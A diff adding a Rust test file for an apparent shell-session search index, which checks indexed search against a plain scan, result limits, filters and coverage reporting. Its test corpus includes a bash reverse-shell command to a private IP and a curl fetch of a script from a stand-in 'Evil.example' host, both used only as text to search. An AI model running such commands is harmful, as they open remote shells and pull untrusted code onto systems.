@@ -1,0 +1,195 @@
+//! Search against a scan of the same text: no difference is allowed.
+
+use std::path::Path;
+
+use proptest::test_runner::{Config, RngSeed, TestRunner};
+use proptest::prelude::*;
+use shelltrail_core::Session;
+use shelltrail_core::sink::{Failure, RecordSink};
+
+use super::*;
+use crate::{IndexRoot, LocalSink, samples};
+
+fn store(dir: &Path, commits: &[&[Session]]) -> LocalSink {
+    let (root, lock) = IndexRoot::open_for_writing(dir, Some(1)).unwrap();
+    let sink = LocalSink::new(root, lock);
+    for sessions in commits {
+        let mut by_partition: BTreeMap<Partition, Vec<Session>> = BTreeMap::new();
+        for session in *sessions {
+            by_partition.entry(sink.partition(session.account.as_ref())).or_default().push(session.clone());
+        }
+        let build = |(partition, sessions): (Partition, Vec<Session>)| {
+            sink.build(&partition, &mut sessions.into_iter()).unwrap()
+        };
+        let batches = by_partition.into_iter().map(build).collect();
+        sink.commit(batches).unwrap();
+    }
+    sink
+}
+
+fn found(answer: &Answer) -> Vec<(String, u32)> {
+    answer.hits.iter().map(|hit| (hit.session.session.clone(), hit.record.seq)).collect()
+}
+
+fn corpus() -> Vec<Session> {
+    let long = "Zm9vYmFy0".repeat(40);
+    let path = format!("/var/lib/{}", "deep/".repeat(60));
+    let reverse_shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+    let texts: Vec<Vec<(&str, &str)>> = vec![
+        vec![("sudo id", "uid=0(root) gid=0(root)"), (reverse_shell, ""), ("cat big", &long)],
+        vec![("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger"), ("ls 2>&1 | grep x", "a1b2 12 123 1234 5.6.7")],
+        vec![(&path, "404 | 10.20.30.40:8080 v1.2.3-rc4"), ("SUDO -i", "curl https://Evil.example/x.sh")],
+        vec![],
+    ];
+    let accounts = ["111122223333", "111122223333", "444455556666", "-"];
+    let mut sessions = Vec::new();
+    for (i, (texts, account)) in texts.iter().zip(accounts).enumerate() {
+        let mut session = samples::in_account(&format!("user{i}-05ba181f37a0fb8d2"), account, texts);
+        // Two sessions end at the same time, one at an unknown one.
+        session.ended_at = (i != 2).then(|| Timestamp::from_second(1_700_000_000 + (i as i64 / 2)).unwrap());
+        sessions.push(session);
+    }
+    sessions
+}
+
+/// What a scan of all text gives, in the order of results.
+fn scan(sessions: &[Session], literal: &Literal) -> Vec<(String, u32)> {
+    let mut hits = Vec::new();
+    for session in sessions {
+        for record in &session.records {
+            let texts = [record.command.as_deref().unwrap_or_default(), record.output.as_str()];
+            if texts.iter().any(|text| literal.is_in(text)) {
+                let newest_first = std::cmp::Reverse(session.ended_at);
+                let order = (session.ended_at.is_none(), newest_first, session.id.to_string(), record.seq);
+                hits.push((order, (session.session.clone(), record.seq)));
+            }
+        }
+    }
+    hits.sort();
+    hits.into_iter().map(|(_, hit)| hit).collect()
+}
+
+#[test]
+fn an_index_answers_as_a_scan_does() {
+    let sessions = corpus();
+    let dir = tempfile::tempdir().unwrap();
+    store(dir.path(), &[&sessions[..1], &sessions[1..]]);
+    let searcher = Searcher::open(dir.path()).unwrap();
+    let texts: Vec<String> = sessions
+        .iter()
+        .flat_map(|session| &session.records)
+        .flat_map(|record| [record.command.clone().unwrap_or_default(), record.output.clone()])
+        .filter(|text| !text.is_empty())
+        .collect();
+    let query = (0..texts.len(), any::<prop::sample::Index>(), 1usize..80, any::<bool>());
+    // A fixed seed: the same queries on every run.
+    let config = Config { cases: 3000, rng_seed: RngSeed::Fixed(20_261_120), ..Config::default() };
+    TestRunner::new(config)
+        .run(&query, |(text, from, len, lower)| {
+            let text = &texts[text];
+            let from = text.floor_char_boundary(from.index(text.len()));
+            let to = text.ceil_char_boundary((from + len).min(text.len()));
+            let query = if lower { text[from..to].to_lowercase() } else { text[from..to].to_owned() };
+            let literal = Literal::new(&query);
+            let answer = searcher.search(&literal, &Filter::default(), 1000);
+            prop_assert!(answer.coverage.is_complete());
+            prop_assert_eq!(found(&answer), scan(&sessions, &literal), "{:?}", query);
+            Ok(())
+        })
+        .unwrap();
+}
+
+#[test]
+fn the_limit_keeps_the_newest() {
+    let sessions = corpus();
+    let dir = tempfile::tempdir().unwrap();
+    store(dir.path(), &[&sessions]);
+    let searcher = Searcher::open(dir.path()).unwrap();
+    let literal = Literal::new("e");
+    let all = searcher.search(&literal, &Filter::default(), 1000);
+    assert!(!all.limited && all.hits.len() > 3);
+    for limit in 1..all.hits.len() {
+        let some = searcher.search(&literal, &Filter::default(), limit);
+        assert!(some.limited);
+        assert_eq!(found(&some), found(&all)[..limit]);
+    }
+}
+
+#[test]
+fn filters_keep_what_they_name_and_what_is_unknown() {
+    let sessions = corpus();
+    let dir = tempfile::tempdir().unwrap();
+    store(dir.path(), &[&sessions]);
+    let searcher = Searcher::open(dir.path()).unwrap();
+    let hits = |filter: Filter| found(&searcher.search(&Literal::new("e"), &filter, 1000)).len();
+    let of = |account: &str| Filter { accounts: vec![account.parse().unwrap()], ..Filter::default() };
+    let all = hits(Filter::default());
+    assert_eq!(hits(of("111122223333")) + hits(of("444455556666")), all);
+    assert_eq!(hits(of("999999999999")), 0);
+    let of_user = Filter { principal: Some("user1".to_owned()), ..Filter::default() };
+    assert!(hits(of_user) > 0);
+    let future = Filter { since: Some(Timestamp::from_second(1_800_000_000).unwrap()), ..Filter::default() };
+    let unknown_time = searcher.search(&Literal::new("e"), &future, 1000);
+    assert!(!unknown_time.hits.is_empty());
+    assert!(unknown_time.hits.iter().all(|hit| hit.session.ended_at.is_none()));
+    assert_eq!(searcher.sessions(&Filter::default()).0.len(), 4);
+    assert_eq!(searcher.sessions(&of("111122223333")).0.len(), 2);
+}
+
+#[test]
+fn records_around_a_hit_are_read_across_blocks() {
+    let output = "x".repeat(crate::block::TARGET_TEXT_BYTES / 3);
+    let commands: Vec<_> = (0..10).map(|_| ("cat", output.as_str())).collect();
+    let session = samples::session("alice-05ba181f37a0fb8d2", &commands);
+    let dir = tempfile::tempdir().unwrap();
+    let other = samples::session("bob-05ba181f37a0fb8d2", &[("id", "")]);
+    store(dir.path(), &[&[other, session.clone()]]);
+    let searcher = Searcher::open(dir.path()).unwrap();
+    let answer = searcher.search(&Literal::new("cat"), &Filter::default(), 1000);
+    assert_eq!(answer.hits.len(), 10);
+    for hit in &answer.hits {
+        let (first, last) = (hit.record.seq.saturating_sub(2), hit.record.seq + 2);
+        let around = searcher.records(&hit.place, first, last).unwrap();
+        assert_eq!(around, session.records[first as usize..session.records.len().min(last as usize + 1)]);
+    }
+}
+
+#[test]
+fn an_answer_says_what_it_could_not_see() {
+    let sessions = corpus();
+    let dir = tempfile::tempdir().unwrap();
+    let sink = store(dir.path(), &[&sessions]);
+    let failure = Failure {
+        object: sessions[0].object.clone(),
+        account: sessions[0].account,
+        reason: "kms-denied".to_owned(),
+        detail: String::new(),
+        attempts: 1,
+        failed_at: Timestamp::UNIX_EPOCH,
+    };
+    sink.record_failure(&failure).unwrap();
+    let searcher = Searcher::open(dir.path()).unwrap();
+    let coverage = searcher.search(&Literal::new("nothing"), &Filter::default(), 10).coverage;
+    assert!(!coverage.is_complete());
+    assert_eq!(coverage.not_indexed, [("kms-denied".to_owned(), 1)].into());
+    let other = Filter { accounts: vec!["444455556666".parse().unwrap()], ..Filter::default() };
+    assert!(searcher.search(&Literal::new("nothing"), &other, 10).coverage.is_complete());
+
+    // A damaged pack: its records are counted, the rest is found.
+    sink.clear_failure(&failure.object).unwrap();
+    let pack = dir.path().join("partitions/1/packs/00000000.pack");
+    let mut bytes = std::fs::read(&pack).unwrap();
+    for byte in bytes.iter_mut().skip(60).take(40) {
+        *byte = !*byte;
+    }
+    std::fs::write(&pack, bytes).unwrap();
+    let answer = Searcher::open(dir.path()).unwrap().search(&Literal::new("e"), &Filter::default(), 1000);
+    assert!(!answer.hits.is_empty() && !answer.coverage.is_complete());
+    assert!(answer.coverage.unreadable_records > 0);
+    assert!(answer.coverage.unreadable_reason.unwrap().contains("00000000.pack"));
+
+    // A partition that cannot be opened at all.
+    std::fs::write(dir.path().join("partitions/4/tantivy/meta.json"), "{").unwrap();
+    let answer = Searcher::open(dir.path()).unwrap().search(&Literal::new("e"), &Filter::default(), 1000);
+    assert_eq!(answer.coverage.failed_partitions.keys().collect::<Vec<_>>(), ["4"]);
+}
